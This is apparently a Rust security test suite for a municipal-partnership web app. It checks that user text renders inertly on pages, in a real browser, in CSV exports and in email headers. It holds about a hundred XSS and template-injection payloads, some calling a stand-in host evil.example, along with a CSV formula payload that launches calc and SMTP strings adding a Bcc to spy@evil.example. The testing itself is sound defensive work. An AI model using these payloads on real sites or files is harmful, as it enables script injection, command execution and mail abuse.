//! What people write is text wherever it shows: on pages, in letters, in
//! files, in a real browser.

use std::collections::BTreeSet;

use chrono::Duration;
use mosty::domain::account::{MemberState, Office};
use mosty::domain::text;
use mosty::domain::time::{Clock, FixedClock};
use mosty::mail::send_next;

use super::{
    Asker, account, bare, foreign_markup, forget_tries, municipality, readable, server, servers,
    set_membership, settled, verify,
};
use crate::mail::{Manner, Server};
use crate::signing_in::{PASSWORD, do_chores, letters};
use crate::support::{Answer, now};

/// What somebody might write to become markup, a script or a formula. None is
/// longer than a name may be.
pub(super) const PAYLOADS: [&str; 104] = [
    "<x-mark>",
    "<x-mark x-mark=1>text</x-mark>",
    "<script>window.hit=1</script>",
    "<ScRiPt>window.hit=2</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>window.hit=3</script>",
    "<scr<script>ipt>window.hit=4</scr</script>ipt>",
    "\"><script>window.hit=5</script>",
    "'><script>window.hit=6</script>",
    "</script><script>window.hit=7</script>",
    "</textarea><script>window.hit=8</script>",
    "</title><script>window.hit=9</script>",
    "</style><script>window.hit=10</script>",
    "</option></select><x-mark>",
    "--><x-mark>",
    "<!--><x-mark>",
    "<!-- x-mark",
    "]]><x-mark>",
    "<![CDATA[<x-mark>]]>",
    "</noscript><x-mark>",
    "</template><x-mark>",
    "</dd></dl></main></body><x-mark>",
    "<img src=x onerror=window.hit=11>",
    "\"><img src=x onerror=window.hit=12>",
    "'><img src=x onerror=window.hit=13>",
    "<img src=x onerror=\"window.hit=14\"//",
    "<img/src=x/onerror=window.hit=15>",
    "<img src=\"x\" x-mark onload=window.hit=16",
    "<IMG \"\"\"><SCRIPT>window.hit=17</SCRIPT>\">",
    "<svg onload=window.hit=18>",
    "<svg/onload=window.hit=19>",
    "<svg><script>window.hit=20</script></svg>",
    "<svg><a xlink:href=\"javascript:window.hit=21\"><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=window.hit=22 attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<x-mark>\"/></svg>",
    "<svg><set attributeName=onload to=window.hit=23>",
    "<svg><foreignObject><x-mark></foreignObject></svg>",
    "<math><mtext><x-mark></mtext></math>",
    "<math href=\"javascript:window.hit=24\">x</math>",
    "<iframe src=\"javascript:window.hit=25\"></iframe>",
    "<iframe srcdoc=\"<script>parent.hit=26</script>\"></iframe>",
    "<object data=\"javascript:window.hit=27\"></object>",
    "<embed src=\"javascript:window.hit=28\">",
    "<base href=\"//evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style=\"position:fixed;inset:0\">x",
    "<form action=//evil.example><button>x",
    "<input autofocus onfocus=window.hit=29>",
    "\" autofocus onfocus=window.hit=30 x=\"",
    "' autofocus onfocus=window.hit=31 x='",
    "\" onmouseover=\"window.hit=32",
    "x onmouseover=window.hit=33",
    "` onmouseover=window.hit=34 x=`",
    "\"x-mark=\"1",
    "'x-mark='1",
    "\" x-mark \"",
    "\\\" x-mark=1 \\\"",
    "<button formaction=\"javascript:window.hit=35\">x</button>",
    "<details open ontoggle=window.hit=36>x</details>",
    "<video><source onerror=window.hit=37></video>",
    "<audio src=x onerror=window.hit=38>",
    "<body onpageshow=window.hit=39>",
    "<marquee onstart=window.hit=40>x</marquee>",
    "<select><option><x-mark>",
    "<xmp><x-mark></xmp>",
    "<plaintext>",
    "<frameset onload=window.hit=41>",
    "<keygen autofocus onfocus=window.hit=42>",
    "<a href=\"javascript:window.hit=43\">x</a>",
    "<a href=\"java&#10;script:window.hit=44\">x</a>",
    "javascript:window.hit=45",
    "JaVaScRiPt:window.hit=46",
    "javascript&colon;window.hit=47",
    "java\tscript:window.hit=48",
    "\u{1}javascript:window.hit=49",
    "data:text/html,<script>parent.hit=50</script>",
    "vbscript:window.hit=51",
    "//evil.example/x-mark",
    "&lt;x-mark&gt;",
    "&#60;x-mark&#62;",
    "&#x3c;x-mark&#x3e;",
    "&#0000060x-mark>",
    "&amp;lt;x-mark&amp;gt;",
    "%3Cx-mark%3E",
    "\\u003cx-mark\\u003e",
    "\\x3cx-mark\\x3e",
    "{{ 7*7 }}{{ page.t }}",
    "{% include \"base.html\" %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{ $name } { -brand } { \"{\" }",
    "\u{ff1c}x-mark\u{ff1e}",
    "\u{2039}x-mark\u{203a}",
    "<\u{0}x-mark>",
    "<\u{202e}x-mark>",
    "<x-mark\u{a0}x-mark=1>",
    "<x-mark\u{c}x-mark=1>",
    "\u{2028}<x-mark>\u{2029}",
    "\u{feff}<x-mark>",
    "'-window.hit-'",
    "\";window.hit=52;//",
    "<x-mark",
    "a\u{300}\u{300}\u{300}<x-mark>\u{200d}\u{1f469}",
];

/// The longest text that every field takes.
const SHORTEST_LIMIT: usize = 100;

/// All of [`PAYLOADS`], packed into as few texts as every field takes.
fn packed() -> Vec<String> {
    let mut all = vec![String::new()];
    for payload in PAYLOADS {
        let last = all.last_mut().unwrap();
        if last.chars().count() + payload.chars().count() + 1 > SHORTEST_LIMIT {
            all.push(payload.to_owned());
        } else {
            last.push_str(if last.is_empty() { "" } else { " " });
            last.push_str(payload);
        }
    }
    assert!(all.iter().all(|text| text.chars().count() <= SHORTEST_LIMIT));
    all
}

/// What a page shows of a text that somebody wrote.
fn shown(text: &str) -> String {
    bare(&text::clean_line(text))
}

/// Fields that take only what has a form of its own, and what is written in
/// them instead: as much of a text as they let through.
fn of_a_form(name: &str, number: usize, written: &str) -> Option<String> {
    let address = || format!("'onfocus='window.hit=1'x-mark='{number}@{{{{7*7}}}}.example");
    Some(match name {
        "email" | "contact-email" | "contact-email-1" | "contact-email-2" | "official" => address(),
        "contact-phone-1" | "contact-phone-2" => "+1 (234) 567-8".to_owned(),
        "year" | "since" => "2024".to_owned(),
        "people" => "12345".to_owned(),
        "countries" => "PL, DE".to_owned(),
        "evidence" => format!("https://{written}"),
        _ => return None,
    })
}

/// What of the whole walk is remembered.
#[derive(Default)]
struct Walk {
    faults: Vec<String>,
    /// The names of the text fields that were filled in.
    filled: BTreeSet<String>,
    /// The names of the text fields that pages have.
    there: BTreeSet<String>,
    /// All that was read, without space.
    read: String,
}

impl Walk {
    /// Looks at a page.
    fn look(&mut self, at: &str, answer: &Answer) {
        if answer.status >= 500 {
            self.faults.push(format!("{at}: {}", answer.status));
        }
        let kind = answer.header("content-type");
        if !kind.starts_with("text/html") {
            assert_eq!(answer.header("x-content-type-options"), "nosniff", "{at}");
            return;
        }
        let html = answer.html();
        self.faults.extend(foreign_markup(&html).into_iter().map(|what| format!("{at}: {what}")));
        self.read.push_str(&readable(&html));
        let fields = scraper::Selector::parse("form[method=post] input, textarea").unwrap();
        for field in html.select(&fields) {
            let plain = !matches!(
                field.value().attr("type"),
                Some("hidden" | "radio" | "checkbox" | "password")
            );
            self.there.extend(field.value().attr("name").filter(|_| plain).map(str::to_owned));
        }
    }

    /// Fills in a form of a page: every text field with the same text, first
    /// as it is, then in the form that is asked for. Gives back the last
    /// answer.
    fn fill(
        &mut self,
        me: &Asker,
        path: &str,
        to: &str,
        number: usize,
        written: &str,
        chosen: &[(&str, &str)],
    ) -> Answer {
        let page = me.get(path);
        assert_eq!(page.status, 200, "{path}: {}", page.body);
        let html = page.html();
        self.look(path, &page);
        let forms = scraper::Selector::parse("form[method=post]").unwrap();
        let is_wanted = |f: &scraper::ElementRef<'_>| {
            f.value().attr("action").is_some_and(|action| action.ends_with(to))
                && chosen.iter().filter(|(n, _)| ["do", "set"].contains(n)).all(|(n, v)| {
                    let own = format!("[name={n}][value={v}]");
                    f.select(&scraper::Selector::parse(&own).unwrap()).next().is_some()
                })
        };
        // Of several forms the one to write in.
        let area = scraper::Selector::parse("textarea, input[type=text]").unwrap();
        let mut wanted: Vec<_> = html.select(&forms).filter(is_wanted).collect();
        wanted.sort_by_key(|form| form.select(&area).next().is_none());
        let form = wanted
            .first()
            .copied()
            .unwrap_or_else(|| panic!("no form to {to} with {chosen:?} on {path}"));
        let action = form.value().attr("action").unwrap().to_owned();
        let inputs = scraper::Selector::parse("input, textarea, select").unwrap();
        let mut hidden: Vec<(String, String)> = Vec::new();
        let mut texts: Vec<String> = Vec::new();
        for input in form.select(&inputs) {
            let value = input.value();
            let Some(name) = value.attr("name").filter(|n| *n != "_form") else { continue };
            match (value.name(), value.attr("type")) {
                ("input", Some("hidden")) => {
                    hidden.push((name.to_owned(), value.attr("value").unwrap_or("").to_owned()));
                }
                ("input", Some("radio" | "checkbox" | "password")) | ("select", _) => {}
                _ => texts.push(name.to_owned()),
            }
        }
        let send = |fill: &dyn Fn(&str) -> String| {
            let mut fields: Vec<(String, String)> = hidden.clone();
            fields.retain(|(n, _)| !chosen.iter().any(|(c, _)| c == n));
            fields.extend(texts.iter().map(|n| (n.clone(), fill(n))));
            fields.extend(chosen.iter().map(|(n, v)| ((*n).to_owned(), (*v).to_owned())));
            let fields: Vec<(&str, &str)> = fields.iter().map(|(n, v)| (&**n, &**v)).collect();
            me.post(&action, &fields)
        };
        if texts.iter().any(|n| of_a_form(n, number, written).is_some()) {
            let refused = send(&|_| written.to_owned());
            self.look(&format!("{action}, refused"), &refused);
        }
        let taken =
            send(&|name| of_a_form(name, number, written).unwrap_or_else(|| written.to_owned()));
        self.look(&format!("{action}, taken"), &taken);
        self.filled.extend(texts);
        taken
    }
}

/// CVE-2026-23891: a script in the name of a user ran on every page with a
/// comment. CVE-2024-32034, CVE-2024-27095, GHSA-5286-f2rf-35c2: what visitors
/// had written ran in the log and the other pages of the administration.
/// CVE-2024-41673, CVE-2020-11001: it ran where two versions were compared.
///
/// Everything above goes into every text field there is; then everybody looks
/// at every page that shows it.
#[test]
fn what_people_write_is_text_for_everybody_who_reads_it() {
    let (server, clock) = server();
    let db = &server.db;
    let mut walk = Walk::default();
    let texts = packed();
    let officer = Asker::begin(&server, account(db, "officer@mosty.org", Office::Officer), now());
    let admin = Asker::begin(&server, account(db, "admin@mosty.org", Office::Admin), now());
    let nobody = Asker::nobody(&server);
    let mut members = Vec::new();
    for (i, text) in texts.iter().enumerate() {
        forget_tries(db);
        let slug = format!("town-{i}");
        let id = account(db, &format!("member{i}@town.example"), Office::None);
        let own = municipality(db, &slug);
        set_membership(db, id, own, MemberState::Active);
        verify(db, own);
        let me = Asker::begin(&server, id, now());
        let at = |end: &str| format!("/en/municipalities/{slug}{end}");
        let mut fill = |me: &Asker, path: &str, to: &str, chosen: &[(&str, &str)]| {
            let answer = walk.fill(me, path, to, i, text, chosen);
            let taken = answer.status == 303 || (answer.status == 200 && to == "/password");
            assert!(taken, "{path}: {} {}", answer.status, answer.texts(".errors").join(" "));
        };
        fill(&me, "/en/account", "/account", &[("language", "en")]);
        let about = [
            ("need", "culture/heritage"),
            ("offer", "safety/continuity"),
            ("speaks", "en"),
            ("fluency", "B2"),
        ];
        fill(&me, &at("/profile/start"), "/start", &about);
        let about = [
            ("direction", "need"),
            ("subarea", "culture/heritage"),
            ("level", "2"),
            ("text-language", "en"),
            ("text-language-2", "uk"),
            ("audience", "public"),
        ];
        fill(&me, &at("/profile/entries/1"), "/entries/1", &about);
        let about = [
            ("direction", "exchange"),
            ("subarea", "economy/tourism"),
            ("level", "2"),
            ("text-language", "en"),
            ("text-language-2", "uk"),
            ("audience", "verified"),
        ];
        fill(&me, &at("/profile/entries"), "/entries/new", &about);
        let about = [("text-language", "en"), ("text-language-2", "uk")];
        fill(&me, &at("/profile/in-return"), "/in-return", &about);
        let about = [("contact-for-1", "verified"), ("contact-for-2", "public")];
        fill(&me, &at("/profile/contacts"), "/contacts", &about);
        let about = [("do", "invite"), ("role", "editor"), ("language", "en")];
        fill(&me, &at("/members"), "/members", &about);
        let about = [("about", if i % 2 == 0 { "other" } else { "tie" })];
        fill(&me, &at("/correction"), "/correction", &about);
        fill(&nobody, "/en/missing", "/missing", &[]);
        fill(&me, "/en/municipalities/mikulov/claim", "/claim", &[]);
        // A stranger's claim follows on each.
        let claim = format!("/claims/{}", 2 * i + 1);
        let back = [("action", "return")];
        fill(&officer, &format!("/en/admin{claim}"), &format!("/admin{claim}"), &back);
        // An address of somebody without an account, in a claim and a letter.
        let stranger = of_a_form("email", 1_000 + i, text).unwrap();
        let said = [
            ("name", text.as_str()),
            ("email", stranger.as_str()),
            ("position", text.as_str()),
            ("evidence", "https://town.example/"),
        ];
        walk.look("a stranger's claim", &nobody.post("/en/municipalities/lublin/claim", &said));
        walk.look("/en/password", &nobody.post("/en/password", &[("email", stranger.as_str())]));
        // What is kept of a form that was not sent comes back as data.
        let path = at("/profile/room");
        me.post("/en/unsent", &[("_for", path.as_str()), ("return", text.as_str())]);
        walk.look("/en/unsent", &me.get(&format!("/en/unsent?for={path}")));
        // A form whose session is over is shown again, and so is one that
        // somebody else was quicker with.
        let stale = Asker { proof: String::new(), ..me.clone() };
        let again = stale.post("/en/account", &[("name", text.as_str())]);
        assert_eq!(again.status, 403);
        walk.look("a form of another session", &again);
        let over = nobody.post("/en/account", &[("name", text.as_str())]);
        assert_eq!(over.status, 401);
        walk.look("a form after the session", &over);
        let both = [("version", "0"), ("return", text.as_str()), ("text-language", "en")];
        let overtaken = me.post(&at("/profile/in-return"), &both);
        assert_eq!(overtaken.status, 409);
        walk.look("a form overtaken", &overtaken);
        let of_control = [("set", "control"), ("control", "front")];
        let of_people = [("set", "people")];
        let page = format!("/en/admin/municipalities/{slug}");
        for (who, chosen) in [(&officer, &of_control[..]), (&admin, &of_people)] {
            let answer = walk.fill(who, &page, &format!("/{slug}"), i, text, chosen);
            assert_eq!(answer.status, 303, "{page}: {}", answer.texts(".errors").join(" "));
        }
        let answer = walk.fill(
            &admin,
            "/en/admin/accounts",
            "/admin/accounts",
            2_000 + i,
            text,
            &[("do", "invite"), ("office", "officer"), ("language", "en")],
        );
        assert_eq!(answer.status, 303, "{}", answer.texts(".errors").join(" "));
        let organise = [("do", "organise"), ("kind", "programme")];
        let to = "/admin/accounts";
        walk.fill(&admin, "/en/admin/accounts", to, i, text, &organise);
        members.push((slug, me));
    }
    // Requests are refused with a reason; the claimants answer what was asked.
    for (i, (text, (_, me))) in texts.iter().zip(&members).enumerate() {
        let claim = format!("/claims/{}", 2 * i + 1);
        walk.fill(me, &format!("/en{claim}"), &claim, i, text, &[("action", "resubmit")]);
        for n in [2 * i + 1, 2 * i + 2] {
            let path = format!("/admin/requests/{n}");
            let refuse = [("do", "refuse")];
            walk.fill(&officer, &format!("/en{path}"), &path, i, text, &refuse);
        }
    }
    assert!(walk.there.len() > 30, "few fields were found: {:?}", walk.there);
    let left: Vec<&String> = walk
        .there
        .difference(&walk.filled)
        .filter(|name| !matches!(name.as_str(), "code" | "email"))
        .collect();
    assert!(left.is_empty(), "nothing was written in {left:?}");
    settled(&server);
    for (i, (slug, me)) in members.iter().enumerate() {
        let at = |end: &str| format!("/en/municipalities/{slug}{end}");
        let public = [at(""), at("/passport"), at("/partners"), at("/partners/novyi-bilous")];
        let letter = at("/partners/novyi-bilous/letter");
        let from = format!("/en/municipalities/novyi-bilous/partners/{slug}/letter");
        for path in public.iter().chain([&letter, &from, &at("/claim")]) {
            for who in [&nobody, me, &admin] {
                walk.look(path, &who.get(path));
            }
        }
        let own = [
            "",
            "/entries",
            "/entries/1",
            "/entries/2",
            "/languages",
            "/room",
            "/in-return",
            "/contacts",
        ];
        for end in own {
            walk.look(&at(end), &me.get(&at(&format!("/profile{end}"))));
        }
        for end in ["/members", "/history", "/hiding"] {
            for who in [me, &officer, &admin] {
                walk.look(&at(end), &who.get(&at(end)));
            }
        }
        walk.look("/en/account", &me.get("/en/account"));
        walk.look("/en/account/data", &me.get("/en/account/data"));
        let page = format!("/uk/admin/municipalities/{slug}");
        walk.look(&page, &officer.get(&page));
        let n = 2 * i + 1;
        for path in [
            format!("/en/claims/{n}"),
            format!("/en/admin/claims/{n}"),
            format!("/en/admin/requests/{n}"),
        ] {
            for who in [me, &officer, &admin] {
                walk.look(&path, &who.get(&path));
            }
        }
        let path = format!("/en/admin/accounts/{}", i + 1);
        walk.look(&path, &admin.get(&path));
    }
    for path in [
        "/en/admin/claims",
        "/en/admin/claims?state=returned",
        "/en/admin/requests",
        "/en/admin/requests?state=refused",
        "/en/admin/accounts",
        "/en/admin/log.csv",
        "/en/municipalities?status=verified",
        "/en/areas/culture",
        "/en/compare?for=novyi-bilous&with=town-0,town-1,town-2",
        "/api/v1/municipalities?status=verified",
        "/api/v1/municipalities.csv?status=verified",
    ] {
        for who in [&nobody, &officer, &admin] {
            walk.look(path, &who.get(path));
        }
    }
    // The whole log, page after page.
    for who in [&officer, &admin] {
        let mut next = Some("/en/admin/log".to_owned());
        while let Some(path) = next.take() {
            let page = who.get(&path);
            walk.look(&path, &page);
            // Not the link to the same page in another language.
            let older = scraper::Selector::parse("main a[href*='before=']").unwrap();
            let html = page.html();
            let older = html.select(&older).find_map(|a| a.value().attr("href"));
            next = older.map(str::to_owned).filter(|older| *older != path);
        }
    }
    // Letters are pages, too.
    do_chores(&server, &clock);
    let sent = letters(&server);
    assert!(sent.len() > 50, "only {} letters", sent.len());
    for mail in &sent {
        let html = scraper::Html::parse_document(&mail.html);
        let at = format!("the letter {}", mail.topic);
        walk.faults.extend(foreign_markup(&html).into_iter().map(|what| format!("{at}: {what}")));
    }
    let (faults, read) = (&walk.faults, &walk.read);
    assert!(
        faults.is_empty(),
        "{} faults, such as {:?}",
        faults.len(),
        &faults[..faults.len().min(20)]
    );
    for payload in PAYLOADS {
        let wanted = shown(payload);
        assert!(read.contains(&wanted), "{payload:?} is shown nowhere as it was written");
    }
}

/// What stands first in a cell and would make it a formula.
const FORMULAS: [&str; 6] =
    ["=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"];

/// CVE-2024-27095 has a cousin in every file for spreadsheets: what visitors
/// wrote was run by the program of whoever opened the export.
#[test]
fn no_cell_of_a_file_begins_as_a_formula() {
    for (name, server, _) in servers() {
        let admin = Asker::begin(&server, account(&server.db, "a@mosty.org", Office::Admin), now());
        for formula in FORMULAS {
            let set = [
                ("set", "control"),
                ("control", "front"),
                ("source", formula),
                ("reason", formula),
            ];
            assert_eq!(admin.post("/en/admin/municipalities/swidnik", &set).status, 303, "{name}");
            let back = [("set", "control"), ("control", "government"), ("reason", formula)];
            assert_eq!(admin.post("/en/admin/municipalities/swidnik", &back).status, 303, "{name}");
        }
        settled(&server);
        let mut seen = 0;
        for path in ["/en/admin/log.csv", "/api/v1/municipalities.csv"] {
            let file = admin.get(path);
            let mut reader = csv::Reader::from_reader(file.body.as_bytes());
            for row in reader.records() {
                for cell in &row.unwrap() {
                    let begins = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
                    let number = cell.parse::<f64>().is_ok();
                    assert!(!begins || number, "{name}: {cell:?} in {path}");
                    seen += usize::from(cell.starts_with("'="));
                }
            }
        }
        assert!(seen > 2, "{name}: the formulas are not in the files");
    }
}

/// ASVS 1.3.11: a line break in what somebody writes adds no line to the head
/// of a letter and nobody to those who get it.
#[test]
fn no_field_adds_a_header_or_a_reader_to_a_letter() {
    let (server, clock) = server();
    let db = &server.db;
    let evil =
        "x\r\nBcc: spy@evil.example\r\nX-Mark: 1\r\n\r\nhello\n.\nRCPT TO:<spy@evil.example>";
    let id = account(db, "member@swidnik.pl", Office::None);
    let own = municipality(db, "swidnik");
    set_membership(db, id, own, MemberState::Active);
    let me = Asker::begin(&server, id, now());
    let nobody = Asker::nobody(&server);
    let officer = Asker::begin(&server, account(db, "o@mosty.org", Office::Officer), now());
    let admin = Asker::begin(&server, account(db, "a@mosty.org", Office::Admin), now());
    me.post("/en/account", &[("name", evil), ("language", "en")]);
    let at = "/en/municipalities/swidnik";
    for email in ["new@town.example", "new@town.example\r\nBcc: spy@evil.example", evil] {
        let invite = [("do", "invite"), ("name", evil), ("email", email), ("role", "editor")];
        me.post(&format!("{at}/members"), &invite);
        let invite = [("do", "invite"), ("name", evil), ("email", email), ("office", "officer")];
        admin.post("/en/admin/accounts", &invite);
        let said = [
            ("name", evil),
            ("email", email),
            ("position", evil),
            ("official", "rada@town.example"),
            ("message", evil),
        ];
        nobody.post("/en/municipalities/lublin/claim", &said);
        nobody.post("/en/password", &[("email", email)]);
        me.post("/en/account/email", &[("email", email), ("password", PASSWORD)]);
        nobody.post(
            "/en/missing",
            &[("missing-name", evil), ("missing-country", evil), ("email", email)],
        );
    }
    let other = [("about", "other"), ("value", evil), ("source", evil), ("message", evil)];
    me.post(&format!("{at}/correction"), &other);
    let missing = [("missing-name", evil), ("missing-country", evil)];
    me.post("/en/missing", &missing);
    for n in 1..=8 {
        let refuse = [("do", "refuse"), ("answer", evil)];
        officer.post(&format!("/en/admin/requests/{n}"), &refuse);
    }
    let said = [("position", evil), ("official", "rada@lublin.example")];
    assert_eq!(me.post("/en/municipalities/lublin/claim", &said).status, 303);
    for n in 1..=4 {
        let back = [("action", "return"), ("version", "1"), ("answer", evil)];
        officer.post(&format!("/en/admin/claims/{n}"), &back);
    }
    do_chores(&server, &clock);
    clock.pass(Duration::minutes(1));
    let mut wanted: Vec<(String, String)> =
        letters(&server).into_iter().map(|m| (m.address, m.subject)).collect();
    assert!(wanted.len() > 6, "{wanted:?}");
    for (address, subject) in &wanted {
        assert!(!format!("{address}{subject}").contains(char::is_control), "{address} {subject}");
    }
    let post = Server::start(Manner::Takes);
    let later = FixedClock(clock.now());
    while send_next(db, &later, &post.mailer(), "a holder").unwrap() != mosty::mail::Step::Nothing {
    }
    let (taken, mut readers) = (post.taken(), post.readers());
    assert_eq!(taken.len(), wanted.len());
    for letter in &taken {
        let head = letter.split("\r\n\r\n").next().unwrap();
        let names: Vec<&str> = head
            .split("\r\n")
            .filter(|line| !line.starts_with([' ', '\t']))
            .map(|line| line.split(':').next().unwrap())
            .collect();
        let known = [
            "From",
            "To",
            "Subject",
            "Message-ID",
            "Date",
            "Auto-Submitted",
            "List-Unsubscribe",
            "List-Unsubscribe-Post",
            "MIME-Version",
            "Content-Type",
        ];
        assert!(names.iter().all(|n| known.contains(n)), "{names:?}");
        let once = |name: &str| names.iter().filter(|n| **n == name).count() == 1;
        assert!(once("To") && once("From") && once("Subject"), "{head}");
    }
    readers.sort();
    wanted.sort();
    let addresses: Vec<String> = wanted.into_iter().map(|(address, _)| address).collect();
    assert_eq!(readers, addresses, "somebody else got a letter");
}

/// The same advisories as above, in a real browser: nothing runs, nothing
/// asks, and the policy of the pages has nothing to refuse.
#[test]
fn nothing_that_people_write_runs_in_a_browser() {
    use crate::browser::{Driver, runtime, sign_in};
    let Some(driver) = Driver::start() else { return };
    let (server, _) = server();
    let db = &server.db;
    let texts = packed();
    let id = account(db, "member@swidnik.pl", Office::Admin);
    let own = municipality(db, "swidnik");
    set_membership(db, id, own, MemberState::Active);
    verify(db, own);
    let me = Asker::begin(&server, id, now());
    let start = [
        ("need", "culture/heritage"),
        ("offer", "safety/continuity"),
        ("speaks", "en"),
        ("fluency", "B2"),
        ("contact-name", &texts[1]),
        ("contact-email", "rada@swidnik.pl"),
        ("version", "0"),
        ("need-statement", &texts[2]),
        ("offer-statement", &texts[3]),
    ];
    let at = "/en/municipalities/swidnik";
    assert_eq!(me.post(&format!("{at}/profile/start"), &start).status, 303);
    for (i, text) in texts.iter().enumerate() {
        forget_tries(db);
        let asked = [("about", "other"), ("value", &**text), ("source", text), ("message", text)];
        assert_eq!(me.post(&format!("{at}/correction"), &asked).status, 303);
        let email = format!("{i}@town.example");
        let invite =
            [("do", "invite"), ("name", &**text), ("email", &email), ("office", "officer")];
        assert_eq!(me.post("/en/admin/accounts", &invite).status, 303);
        let invite = [("do", "invite"), ("name", &**text), ("email", &email), ("role", "editor")];
        assert_eq!(me.post(&format!("{at}/members"), &invite).status, 303);
        let set = [("set", "control"), ("control", "front"), ("source", &**text), ("reason", text)];
        assert_eq!(me.post("/en/admin/municipalities/swidnik", &set).status, 303);
        let town = format!("/en/municipalities/town-{i}/claim");
        let said = [("position", &**text), ("official", "rada@town.example"), ("message", text)];
        assert_eq!(me.post(&town, &said).status, 303);
    }
    assert_eq!(me.post("/en/account", &[("name", &*texts[0])]).status, 303);
    let returned = [
        ("version", "1"),
        ("return", &*texts[4]),
        ("text-language", "en"),
        ("return-2", &*texts[5]),
        ("text-language-2", "uk"),
    ];
    assert_eq!(me.post(&format!("{at}/profile/in-return"), &returned).status, 303);
    settled(&server);
    let query: String = PAYLOADS[7].bytes().map(|b| format!("%{b:02X}")).collect();
    let pages = [
        "/en/municipalities/swidnik".to_owned(),
        "/en/municipalities/swidnik/passport".to_owned(),
        "/en/municipalities/novyi-bilous/partners/swidnik/letter".to_owned(),
        "/en/municipalities/swidnik/profile/entries".to_owned(),
        "/en/municipalities/swidnik/profile/in-return".to_owned(),
        "/en/municipalities/swidnik/members".to_owned(),
        "/en/municipalities/swidnik/history".to_owned(),
        "/en/admin/municipalities/swidnik".to_owned(),
        "/en/admin/log".to_owned(),
        "/en/admin/accounts".to_owned(),
        "/en/admin/requests".to_owned(),
        "/en/admin/requests/3".to_owned(),
        "/en/admin/claims".to_owned(),
        "/en/admin/claims/4".to_owned(),
        "/en/claims/5".to_owned(),
        "/en/account".to_owned(),
        format!("/en/municipalities?q={query}"),
        format!("/en/compare?q={query}"),
        format!("/en/municipalities?sort={query}"),
    ];
    // What the policy refused since the page was opened, and what ran.
    const REFUSED: &str = "const done = arguments[0]; \
         const seen = []; \
         const observer = new ReportingObserver( \
           reports => seen.push(...reports.map(r => r.body.blockedURL + ' ' + r.body.sample)), \
           { types: ['csp-violation'], buffered: true }); \
         observer.observe(); \
         setTimeout(() => done([window.hit === undefined, ...seen]), 40);";
    runtime().block_on(async {
        let client = driver.client().await;
        client.goto(&format!("{}/en/", server.url)).await.unwrap();
        // The check itself sees what it should.
        let insert = "document.body.insertAdjacentHTML('beforeend', \
                      '<img src=x onerror=\"window.hit=1\">')";
        client.execute(insert, vec![]).await.unwrap();
        let seen = client.execute_async(REFUSED, vec![]).await.unwrap();
        assert!(seen.as_array().unwrap().len() > 1, "the policy refuses nothing: {seen}");
        for signed_in in [false, true] {
            if signed_in {
                sign_in(&client, &server, "member@swidnik.pl", Some(super::RECOVERY)).await;
            }
            for path in &pages {
                client.goto(&format!("{}{path}", server.url)).await.unwrap();
                // A dialog would refuse this.
                let seen = client.execute_async(REFUSED, vec![]).await.unwrap();
                assert_eq!(seen, serde_json::json!([true]), "{path}");
            }
        }
        client.close().await.unwrap();
    });
}
